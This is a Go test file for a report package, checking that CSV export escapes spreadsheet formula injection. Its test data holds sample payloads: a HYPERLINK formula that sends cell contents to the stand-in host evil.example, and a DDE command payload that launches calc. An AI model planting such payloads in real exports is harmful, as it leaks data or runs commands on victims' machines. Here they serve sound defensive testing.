package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
)

func TestTextEscapesFormulas(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"sendmsg → qdisc", "sendmsg → qdisc"},
		{"a=b", "a=b"},
		{"'quoted already", "'quoted already"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := text(tt.in); got != tt.want {
			t.Errorf("text(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestNumberKeepsNumbers(t *testing.T) {
	tests := []struct{ in, want string }{
		{"-1.5", "-1.5"},
		{"-3", "-3"},
		{"0.00166667", "0.00166667"},
		{"-1.2e-05", "-1.2e-05"},
		{"1e+06", "1e+06"},
		{"", ""},
		{"-Inf", "'-Inf"},
		{"+Inf", "'+Inf"},
		{"NaN", "NaN"},
		{"-1+1", "'-1+1"},
	}
	for _, tt := range tests {
		if got := number(tt.in); got != tt.want {
			t.Errorf("number(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriteCSVEscapesEveryTextCell puts a formula in every text an agent,
// a node or an operator controls and reads the file back as a spreadsheet
// would: no cell may start a formula, but negative numbers stay numbers.
func TestWriteCSVEscapesEveryTextCell(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	neg, pos := -1.5, 2.0
	cnt := int64(-4)
	child := "@child"
	t0 := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	r := &Report{
		Period: Period{From: t0, To: t0.Add(time.Hour), PreviousFrom: t0.Add(-time.Hour), PreviousTo: t0},
		Scope:  Scope{Nodes: []string{"+node-a", "node-b"}},
		Ping: Ping{
			Targets: []PingTarget{{Target: "-peer", Nodes: []string{"@n"}, P50: &neg, P99: &pos, Sent: &cnt}},
			PerNode: []PingNode{{Node: "\tnode", P50: &neg}},
			Series:  []PingSeries{{Target: "=t", Points: []PingPoint{{T: t0, P50: &neg}}}},
		},
		KernelLatency: []KernelLatency{{Metric: "latency/tx/x", Title: evil, P50: &neg, Count: -7}},
		Reliability: Reliability{
			Resets: []ReasonRow{{Metric: "tcp_reset/sent/=x", Reason: "+reason", Direction: "-sent", Count: 3, PerHour: &neg}},
			Drops:  []ReasonRow{{Metric: "drops/x", Reason: "@r", Count: 1}},
		},
		Availability: []Availability{{Node: "=node", Root: "ping", OK: 1}},
		Incidents:    []Incident{{Node: "\rnode", Root: "=root", State: "warn", Start: t0, End: t0, Child: &child, TreeURL: "=url"}},
		Objectives:   []ObjectiveResult{{Name: "-objective", Attainment: &neg}},
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	rd := csv.NewReader(&b)
	rd.FieldsPerRecord = -1
	rows, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read back: %v", err)
	}
	cells := map[string]bool{}
	for _, row := range rows {
		for _, c := range row {
			cells[c] = true
			if c != "" && strings.ContainsRune(formulaStart, rune(c[0])) && !plainNumber.MatchString(c) {
				t.Errorf("cell %q starts a formula (row %q)", c, row)
			}
		}
	}
	for _, want := range []string{"'" + evil, "'+node-a node-b", "'-peer", "'@n", "'\tnode", "'=t", "'+reason", "'-sent",
		"'@r", "'=node", "'\rnode", "'=root", "'@child", "'=url", "'-objective", "-1.5", "-4", "-7"} {
		if !cells[want] {
			t.Errorf("no cell %q in:\n%s", want, b.String())
		}
	}
}
